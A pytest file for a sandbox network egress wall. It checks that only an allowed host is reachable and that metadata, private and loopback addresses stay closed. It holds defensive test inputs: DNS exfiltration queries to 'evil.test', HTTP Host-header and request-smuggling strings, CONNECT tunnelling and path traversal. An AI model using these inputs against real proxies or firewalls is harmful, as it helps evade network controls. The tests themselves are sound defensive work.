# SPDX-License-Identifier: Apache-2.0
"""With one allowed host, only that host is reached by any means known here (N01–N08, N14, N15, N18–N20, N22–N25). Each
attempt is also made where no wall is, from the daemon's own namespace, to show that there is something to reach."""

import os
import re
import signal
import subprocess
import sys

import pytest
from cloche import Client
from harness.daemon import free_port, read_text, wait_for
from harness.internet import ALLOWED, ALLOWED6, HOST, METADATA, OTHER, PRIVATE, RESOLVER
from harness.running import running
from harness.walled import REFUSED, Walled, control, parse

ONE_HOST = {"allow": ["allowed.test"]}
GET = "GET /{} HTTP/1.1\\r\\nHost: {}\\r\\n\\r\\n"


def is_refused(found):
    """Reset, refused or told so by the wall; never silence."""
    if "reply" in found:
        return parse(found)[0] in (400, 403) or found["reply"] == ""
    return found.get("error") in REFUSED or found.get("error", "").startswith(("tls:", "no such name"))


ATTEMPTS = {
    "raw-address-http": ("send", OTHER, 80, GET.format("n01", OTHER)),
    "raw-address-odd-port": ("send", OTHER, 8080, GET.format("n01", OTHER)),
    "allowed-host-by-raw-address": ("send", ALLOWED, 80, GET.format("n01", ALLOWED)),
    "ipv6-address": ("send", ALLOWED6, 80, GET.format("n01", f"[{ALLOWED6}]")),
    "metadata": ("send", METADATA, 80, GET.format("n02", METADATA)),
    "private": ("send", PRIVATE, 80, GET.format("n03", PRIVATE)),
    "mapped": ("send", f"::ffff:{OTHER}", 80, GET.format("n03", OTHER)),
    "another-name-at-the-allowed-address": ("tls", ALLOWED, 443, "other.test"),
    "no-name-by-tls": ("tls", ALLOWED, 443, "-"),
    "server-first": ("tcp", OTHER, 22),
}


@pytest.mark.parametrize("attempt", ATTEMPTS.values(), ids=ATTEMPTS.keys())
def test_nothing_but_the_allowed_host_is_reached(walled, internet, attempt):
    assert not is_refused(control(internet, *attempt)), "there is nothing to reach"
    box = walled(ONE_HOST)
    before = len([e for e in internet.log() if e["kind"] != "dns"])
    if attempt[0] == "tcp":  # it has to wait what the guest says, which may be nothing
        assert not box.dial(*attempt).get("said")
    else:
        assert is_refused(box.dial(*attempt))
    assert len([e for e in internet.log() if e["kind"] != "dns"]) == before
    assert box.get("allowed.test")[0] == 200  # the wall itself works


@pytest.mark.vm
def test_the_name_decides_where_it_leads_and_not_the_address_that_was_dialled(walled, internet):
    box = walled(ONE_HOST)
    assert parse(control(internet, "send", OTHER, 80, GET.format("n06", "allowed.test")))[1]["address"] == OTHER
    assert box.raw(OTHER, GET.format("n06", "allowed.test"))[1]["address"] == ALLOWED
    assert f'"address": "{ALLOWED}"' in box.dial("tls", OTHER, 443, "allowed.test")["reply"]


@pytest.mark.parametrize("name", ["private.test", "metadata.test", "host.test", "loopback.test"])
def test_an_allowed_name_that_leads_to_a_closed_address_leads_nowhere(walled, internet, name):
    box = walled({"allow": [name]})
    assert box.dial("dns", name, "A") == {"rcode": 0, "answers": 0}
    assert box.raw(ALLOWED, GET.format("n05", name))[0] == 403
    assert is_refused(box.dial("tls", ALLOWED, 443, name))
    assert not internet.seen("request", path="/n05")


def test_a_name_that_is_pointed_elsewhere_later_is_judged_again(walled, internet):
    box = walled(ONE_HOST)
    assert box.get("allowed.test")[0] == 200
    internet.set_zone({"allowed.test": [PRIVATE]})
    assert box.raw(ALLOWED, GET.format("rebound", "allowed.test"))[0] == 403
    internet.set_zone({"allowed.test": [PRIVATE, ALLOWED, METADATA]})
    assert box.dial("dns", "allowed.test", "A") == {"rcode": 0, "answers": 1}
    assert box.raw(ALLOWED, GET.format("mixed", "allowed.test"))[1]["address"] == ALLOWED
    assert not internet.seen("request", path="/rebound")


@pytest.mark.parametrize("address", [PRIVATE, METADATA, HOST, "127.0.0.1", "0.0.0.0", "93.184.216.99"])
def test_allow_all_closes_what_is_not_public(walled, internet, address):
    if address in (PRIVATE, METADATA):
        assert parse(control(internet, "send", address, 80, GET.format("control", address)))[0] == 200
    box = walled("allow-all")
    assert box.get("allowed.test")[0] == 200
    assert is_refused(box.dial("send", address, 80, GET.format("closed", address)))
    assert not internet.seen("request", path="/closed")


def naming(address):
    return {"rules": [{"match": {"cidrs": [f"{address}/32"]}, "action": "allow"}]}


@pytest.mark.parametrize("address", [METADATA, HOST, "127.0.0.1", "169.254.7.7"])
def test_N29_a_policy_opens_nothing_that_is_the_operators(walled, internet, address):
    box = walled(naming(address))
    assert is_refused(box.dial("send", address, 80, GET.format("n29", address)))
    assert not internet.seen("request", path="/n29")
    box = walled(naming(PRIVATE))  # what is not the operator's, a policy opens by naming it
    assert parse(box.dial("send", PRIVATE, 80, GET.format("n29-private", PRIVATE)))[0] == 200


@pytest.fixture(scope="module")
def lending_client(internet):
    """Of a daemon whose operator lets policies open the metadata service."""
    daemon = internet.daemon("--pool-max", "0", "--network-may-open", f"{METADATA}/32").start()
    try:
        with Client(f"unix:{daemon.socket}", daemon.key) as client:
            yield client
    finally:
        daemon.stop()
        daemon.remove()


@pytest.mark.jail("it is one wall for both engines")
def test_N29_the_operator_may_let_a_policy_open_it(lending_client, internet):
    with lending_client.create(network=naming(METADATA)) as named, lending_client.create(network="allow-all") as general:
        attempt = ("send", METADATA, 80, GET.format("n29-lent", METADATA))
        assert is_refused(Walled(general).dial(*attempt))
        assert parse(Walled(named).dial(*attempt))[0] == 200


@pytest.fixture
def neighbour(internet):
    """The port of another server on the daemon's own address."""
    code = f"import http.server as h; s = h.HTTPServer(('{HOST}', 0), h.SimpleHTTPRequestHandler); print(s.server_port, flush=True); s.serve_forever()"
    server = subprocess.Popen([*internet.enter(internet.inner), sys.executable, "-c", code], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
    try:
        yield int(server.stdout.readline())
    finally:
        server.kill()
        server.wait()
        server.stdout.close()


@pytest.mark.jail("it is one wall for both engines")
def test_N29_the_daemons_own_ports_stay_closed_on_an_address_that_is_lent(internet, neighbour):
    port = free_port()
    with running(internet.daemon("--pool-max", "0", "--network-may-open", f"{HOST}/32", "--listen", f"{HOST}:{port}")) as daemon:
        assert internet.run("curl", "-sf", f"http://{HOST}:{port}/v1/health").returncode == 0  # there is something to reach
        with Client(f"unix:{daemon.socket}", daemon.key) as client, client.create(network=naming(HOST)) as sandbox:
            box = Walled(sandbox)
            assert parse(box.dial("send", HOST, neighbour, GET.format("", HOST)))[0] == 200
            assert is_refused(box.dial("send", HOST, port, GET.format("v1/health", HOST)))


def test_a_refused_name_is_never_asked_outside(walled, internet):
    box = walled(ONE_HOST)
    secret = "s3cr3t-payload"
    for kind in ("TXT", "ANY", "HTTPS"):
        assert box.dial("dns", f"{secret}.evil.test", kind)["rcode"] == 5
    for kind in ("A", "AAAA"):  # an address that is nobody's, where a connection is told why
        assert box.dial("dns", f"{secret}.evil.test", kind)["rcode"] == 0
    assert box.dial("dns", f"{secret}.allowed.test", "A", "tcp")["rcode"] == 0
    assert is_refused(box.dial("send", f"{secret}.evil.test", 80, GET.format("n05", "evil.test")))
    assert box.dial("dns", "allowed.test", "A")["answers"] == 1
    assert not [n for n in internet.asked_names() if secret in n]
    assert "allowed.test" in internet.asked_names()


@pytest.mark.vm
def test_datagrams_fail_at_once(walled, internet):
    box = walled("allow-all")
    assert control(internet, "udp", ALLOWED, 443) == {"error": "ECONNREFUSED"}  # it got there: nobody listens
    for address, port in ((ALLOWED, 443), (ALLOWED6, 443), (RESOLVER, 5353)):
        # In a jail the call itself is refused, a vm's kernel is told so by the host's.
        assert box.dial("udp", address, port)["error"] in ("EPERM", "EHOSTUNREACH", "EACCES")


@pytest.mark.jail("the door's sockets are in no namespace of its own; test_vm_network.py dials the gateway's address")
def test_the_doors_own_port_leads_nowhere(walled):
    box = walled("allow-all")
    listing = box.sandbox.run(["cat", "/proc/net/tcp"]).stdout
    ports = {int(p, 16) for p in re.findall(r"0100007F:([0-9A-F]{4}) 00000000:0000 0A", listing)}
    assert ports
    for port in ports:
        assert is_refused(box.dial("send", "127.0.0.1", port, GET.format("door", "allowed.test")))


def test_what_one_sandbox_may_another_may_not(walled):
    first, second = walled(ONE_HOST), walled({"allow": ["other.test"]})
    assert first.get("allowed.test")[0] == second.get("other.test")[0] == 200
    assert second.raw(ALLOWED, GET.format("", "allowed.test"))[0] == 403
    assert first.raw(OTHER, GET.format("", "other.test"))[0] == 403


HOSTS = {
    "another": ("Host: other.test", 403),
    "two": ("Host: allowed.test\\r\\nHost: other.test", 400),
    "none": ("X-Nothing: 1", 400),
    "comma": ("Host: allowed.test,other.test", 400),
    "user": ("Host: allowed.test@other.test", 400),
    "blank": ("Host: allowed.test other.test", 400),
    "nul": ("Host: other.test\\x00.allowed.test", 400),
    "percent": ("Host: other.test%00.allowed.test", 400),
    "suffix": ("Host: evilallowed.test", 403),
    "below": ("Host: x.allowed.test", 403),
    "other-port": ("Host: allowed.test:8080", 403),
    "connection-names-a-field": ("Host: allowed.test\\r\\nConnection: x-api-key", 400),
    "upgrade": ("Host: allowed.test\\r\\nConnection: close\\r\\nUpgrade: h2c", 501),
    "settings": ("Host: allowed.test\\r\\nHTTP2-Settings: AAMAAABkAAQAAP__", 501),
    "length-and-chunks": ("Host: allowed.test\\r\\nContent-Length: 1\\r\\nTransfer-Encoding: chunked", 400),
    "length-twice": ("Host: allowed.test\\r\\nContent-Length: 1\\r\\nContent-Length: 2", 400),
    "bare-newline": ("Host: allowed.test\\nX: y", 400),
    "folded": ("Host: allowed.test\\r\\n folded", 400),
}


@pytest.mark.parametrize(("fields", "status"), HOSTS.values(), ids=HOSTS.keys())
def test_a_request_of_two_readings_goes_nowhere(walled, internet, fields, status):
    box = walled(ONE_HOST)
    good = "GET /good HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n"
    assert box.raw(ALLOWED, f"GET /bad HTTP/1.1\\r\\n{fields}\\r\\n\\r\\n")[0] == status
    assert not internet.seen("request", path="/bad")
    assert box.raw(ALLOWED, good)[0] == 200


TARGETS = {
    "absolute-of-another": ("GET http://other.test/bad HTTP/1.1", 400),
    "connect": ("CONNECT other.test:443 HTTP/1.1", 405),
    "trace": ("TRACE /bad HTTP/1.1", 405),
    "http-1.0-without-host": ("GET /bad HTTP/0.9", 400),
    "h2": ("PRI * HTTP/2.0", 400),
    "dots-above-the-root": ("GET /../../bad HTTP/1.1", 400),
}


@pytest.mark.parametrize(("line", "status"), TARGETS.values(), ids=TARGETS.keys())
def test_a_target_of_two_readings_goes_nowhere(walled, internet, line, status):
    box = walled({"allow": ["allowed.test", "other.test"]})
    assert box.raw(ALLOWED, f"{line}\\r\\nHost: allowed.test\\r\\n\\r\\n")[0] == status
    assert not internet.seen("request", path="/bad")
    assert box.raw(ALLOWED, "GET /good HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n")[0] == 200


def test_the_second_request_of_a_connection_is_judged_as_the_first(walled, internet):
    box = walled(ONE_HOST)
    program = f"""if 1:
        import socket
        s = socket.create_connection(("{ALLOWED}", 80))
        s.settimeout(5)
        s.sendall(b"GET /first HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n")
        print(s.recv(4096).split()[1].decode())
        s.sendall(b"GET /second HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n")
        print(s.recv(4096).split()[1].decode(), s.recv(10))
    """
    assert box.sandbox.run(["python3", "-c", program]).stdout.split()[:2] == ["200", "403"]
    assert not internet.seen("request", path="/second")


def test_a_clienthello_in_single_bytes_is_read_whole(walled):
    box = walled(ONE_HOST)
    program = f"""if 1:
        import socket, ssl
        def dial(name):
            context = ssl._create_unverified_context()
            into, out = ssl.MemoryBIO(), ssl.MemoryBIO()
            tls = context.wrap_bio(into, out, server_hostname=name)
            try:
                tls.do_handshake()
            except ssl.SSLWantReadError:
                pass
            s = socket.create_connection(("{ALLOWED}", 443))
            s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            s.settimeout(5)
            try:
                for b in out.read():
                    s.send(bytes([b]))
                return s.recv(5)[:1] == b"\\x16"
            except ConnectionError:
                return False
        print(dial("allowed.test"), dial("other.test"))
    """
    assert box.sandbox.run(["python3", "-c", program]).stdout == "True True\n"  # the second by the wall itself
    decided = wait_for(lambda: [d for d in box.sandbox.network_decisions() if d["verdict"] == "denied"], 10, "its event")
    assert [d["name"] for d in decided] == ["other.test"]


def test_while_there_is_no_wall_nothing_passes(walled, walled_daemon, internet):
    box = walled("allow-all")
    os.kill(walled_daemon.wall_pid, signal.SIGSTOP)
    try:
        stopped = walled_daemon.wall_pid
        before = len(internet.seen("connection"))
        assert not box.dial("tcp", ALLOWED, 22).get("said")
        os.kill(stopped, signal.SIGKILL)
        assert len(internet.seen("connection")) == before
    finally:
        wait_for(lambda: box.get("allowed.test")[0] == 200, 20, "the next wall")


def test_an_empty_list_denies_everything(walled):
    box = walled({"allow": []})
    assert box.dial("tcp", ALLOWED, 80)["error"] == "ENETUNREACH"


def test_the_wall_itself_has_no_files_no_rights_and_no_children(walled, walled_daemon):
    walled(ONE_HOST)
    pid = walled_daemon.wall_pid
    status = read_text(f"/proc/{pid}/status")
    assert re.search(r"^Uid:\s+65534\s+65534\s+65534\s+65534$", status, re.M)
    assert re.search(r"^CapEff:\s+0+$", status, re.M) and re.search(r"^CapBnd:\s+0+$", status, re.M)
    assert re.search(r"^NoNewPrivs:\s+1$", status, re.M) and re.search(r"^Seccomp:\s+2$", status, re.M)
    assert os.listdir(f"/proc/{pid}/root") == []
